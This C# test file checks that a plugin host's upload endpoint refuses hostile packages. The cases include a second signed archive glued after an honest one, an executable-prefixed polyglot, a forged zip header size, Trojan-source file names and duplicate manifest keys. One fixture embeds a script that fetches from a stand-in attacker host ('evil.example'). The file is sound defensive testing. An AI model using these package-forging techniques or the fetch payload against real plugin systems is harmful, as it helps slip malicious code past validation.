using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;

namespace Labyrinth.Host.Tests.Governance;

/// <summary>One host for the class: every refusal leaves nothing behind, so the tests cannot disturb each other.</summary>
public sealed class GovernanceHostFixture : IAsyncLifetime
{
    internal GovernanceHost Host { get; private set; } = null!;

    public async ValueTask InitializeAsync() => Host = await GovernanceHost.StartAsync();

    public async ValueTask DisposeAsync() => await Host.DisposeAsync();
}

/// <summary>
/// Hostile packages through the upload endpoint: each is refused with a stable code, a sentence
/// that names the rule (and a JSON pointer for manifest and theme problems), and leaves no files
/// and no plugin rows.
/// </summary>
public sealed class PackageAttackTests(GovernanceHostFixture fixture) : IClassFixture<GovernanceHostFixture>
{
    private const string Id = "com.example.attack";

    private GovernanceHost Host => fixture.Host;

    private Dictionary<string, byte[]> Plugin(string version = "1.0.0") => Packages.Plugin(Id, version);

    private byte[] Signed(Dictionary<string, byte[]> files) => Packages.Zip(Packages.Sign(files, Host.Key));

    /// <summary>Asserts the refusal and that nothing was left; returns the problem that carries <paramref name="code"/>.</summary>
    private async Task<JsonElement> RefusedAsync(byte[] package, string code)
    {
        using var response = await Packages.UploadAsync(Host.Admin, package);
        var problem = await Expect.ProblemAsync(HttpStatusCode.BadRequest, code, response);
        Assert.Empty(Host.StoreLeftovers());
        Assert.Equal(0, Host.Scalar($"SELECT COUNT(*) FROM PluginVersions WHERE PluginId = '{Id}'"));
        Assert.Equal(0, Host.Scalar($"SELECT COUNT(*) FROM Plugins WHERE Id = '{Id}'"));
        Assert.False(Directory.Exists(Path.Combine(Host.DataDir, "plugins", Id)));
        return problem.GetProperty("problems").EnumerateArray().First(p => p.GetProperty("code").GetString() == code);
    }

    private static string Manifest(Dictionary<string, byte[]> files) => Encoding.UTF8.GetString(files["manifest.json"]);

    [Fact]
    public async Task Upload_ManifestWithDuplicateId_RefusedWithPointerOfTheDuplicate()
    {
        var files = Plugin();
        files["manifest.json"] = Encoding.UTF8.GetBytes(Manifest(files).Replace($"\"id\":\"{Id}\"", $"\"id\":\"{Id}\",\"id\":\"com.example.other\"", StringComparison.Ordinal));

        var problem = await RefusedAsync(Signed(files), "manifest.invalid");

        Assert.Equal("manifest.json", problem.GetProperty("entry").GetString());
        Assert.Equal("/id", problem.GetProperty("pointer").GetString());
        Assert.Contains("The key \"id\" appears more than once", problem.GetProperty("message").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Upload_ThemeWithDuplicateKey_RefusedWithEntryAndPointer()
    {
        var files = Plugin();
        var manifest = Manifest(files).Replace("\"cards\":", "\"themes\":[{\"themeID\":\"dusk\",\"path\":\"themes/dusk.json\"}],\"cards\":", StringComparison.Ordinal);
        files["manifest.json"] = Encoding.UTF8.GetBytes(manifest);
        files["themes/dusk.json"] = """{ "themeID": "dusk", "name": "Dusk", "tokens": { "ui.border": "#000000", "ui.border": "#ffffff" } }"""u8.ToArray();

        var problem = await RefusedAsync(Signed(files), "theme.invalid");

        Assert.Equal("themes/dusk.json", problem.GetProperty("entry").GetString());
        Assert.Equal("/tokens/ui.border", problem.GetProperty("pointer").GetString());
    }

    [Fact]
    public async Task Upload_ManifestNotUtf8_RefusedAsBadRequestNotServerError()
    {
        var files = Plugin();
        var bytes = Encoding.UTF8.GetBytes(Manifest(files).Replace("\"name\":\"Test", "\"name\":\"Tést", StringComparison.Ordinal));
        bytes[Array.IndexOf(bytes, (byte)0xC3)] = 0xFF;
        files["manifest.json"] = bytes;

        var problem = await RefusedAsync(Signed(files), "manifest.invalid");

        Assert.Contains("not valid UTF-8", problem.GetProperty("message").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Upload_SecondArchiveAppendedAskingForMore_Refused()
    {
        var honest = Signed(Plugin());
        var greedy = Packages.Plugin(Id, "1.0.0", script: "fetch('https://evil.example')");
        greedy["manifest.json"] = Encoding.UTF8.GetBytes(Manifest(greedy).Replace("\"defaultSizePt\"", "\"capabilities\":[\"crossCard:pubsub\"],\"defaultSizePt\"", StringComparison.Ordinal));

        var problem = await RefusedAsync(ZipForge.GlueAfter(honest, Signed(greedy)), "package.malformed");

        Assert.StartsWith($"Bytes 0–{honest.Length - 1} come before the first entry", problem.GetProperty("message").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Upload_ExecutablePrefix_RefusedAsPolyglot()
    {
        var stub = "MZ\u0090\0\u0003\0\0\0This program cannot be run in DOS mode."u8.ToArray();

        var problem = await RefusedAsync(ZipForge.GlueAfter(stub, Signed(Plugin())), "package.malformed");

        Assert.Contains("does not start with a zip local file header", problem.GetProperty("message").GetString(), StringComparison.Ordinal);
        Assert.Contains("polyglot", problem.GetProperty("message").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Upload_LocalHeaderClaimingFourGigabytes_RefusedNamingTheHeaderAndEntry()
    {
        var zip = Signed(Plugin());
        var (number, _) = ZipForge.Find(zip, "cards/t.js");

        var problem = await RefusedAsync(ZipForge.SetLocalUncompressedSize(zip, "cards/t.js", uint.MaxValue), "package.header_mismatch");

        Assert.Equal($"Entry {number} (cards/t.js): the local header says 4294967295 bytes but the central directory says {"export default 1;".Length}.", problem.GetProperty("message").GetString());
        Assert.Equal("cards/t.js", problem.GetProperty("entry").GetString());
    }

    [Fact]
    public async Task Upload_VersionBeyondTwoToThe53_RefusedSayingSo()
    {
        var problem = await RefusedAsync(Signed(Plugin("99999999999999999999.0.0")), "manifest.invalid");

        Assert.Equal("/version", problem.GetProperty("pointer").GetString());
        Assert.Contains("above 9007199254740991 (2^53−1)", problem.GetProperty("message").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Upload_CapabilityListedTwice_RefusedWithPointer()
    {
        var files = Plugin();
        files["manifest.json"] = Encoding.UTF8.GetBytes(Manifest(files).Replace("\"defaultSizePt\"", "\"capabilities\":[\"crossCard:pubsub\",\"crossCard:pubsub\"],\"defaultSizePt\"", StringComparison.Ordinal));

        var problem = await RefusedAsync(Signed(files), "manifest.invalid");

        Assert.Equal("/cards/0/capabilities/1", problem.GetProperty("pointer").GetString());
    }

    [Theory]
    [InlineData("cards/readme\u202Etxt.js")]
    [InlineData("cards/CON.js")]
    [InlineData("assets/com\u00B9/x.png")]
    public async Task Upload_TrojanSourceOrDeviceFileName_Refused(string name)
    {
        var files = Plugin();
        files[name] = [1];

        var problem = await RefusedAsync(Signed(files), "package.invalid_name");

        Assert.Equal(name, problem.GetProperty("entry").GetString());
    }

    [Fact]
    public async Task Activate_VersionBeyondTwoToThe53_RefusedAsInvalidVersion()
    {
        using var response = await Host.Admin.PostAsJsonAsync($"/api/admin/plugins/{Id}/activate", new { version = "1.99999999999999999999.0" });

        var problem = await Expect.ProblemAsync(HttpStatusCode.BadRequest, "version.invalid", response);
        Assert.Contains("minor version 99999999999999999999", problem.GetProperty("detail").GetString(), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Uninstall_VersionThatIsNotSemVer_RefusedAsInvalidVersion()
    {
        using var response = await Host.Admin.DeleteAsync($"/api/admin/plugins/{Id}?version=latest");

        await Expect.ProblemAsync(HttpStatusCode.BadRequest, "version.invalid", response);
    }

    [Fact]
    public async Task Upgrade_Audit_RecordsTheVersionActiveBefore()
    {
        const string upgraded = "com.example.upgraded";
        await Host.InstallOkAsync(upgraded, "1.0.0");
        await Host.InstallOkAsync(upgraded, "1.1.0");

        var items = (await Host.Admin.GetJsonAsync($"/api/admin/audit?plugin={upgraded}&action=plugin.install")).GetProperty("items").EnumerateArray()
            .Select(i => i.GetProperty("detail")).ToList();

        var upgrade = items.Single(d => d.GetProperty("version").GetString() == "1.1.0");
        Assert.Equal("1.0.0", upgrade.GetProperty("previousActiveVersion").GetString());
        var first = items.Single(d => d.GetProperty("version").GetString() == "1.0.0");
        Assert.Equal(JsonValueKind.Null, first.GetProperty("previousActiveVersion").ValueKind);
    }
}
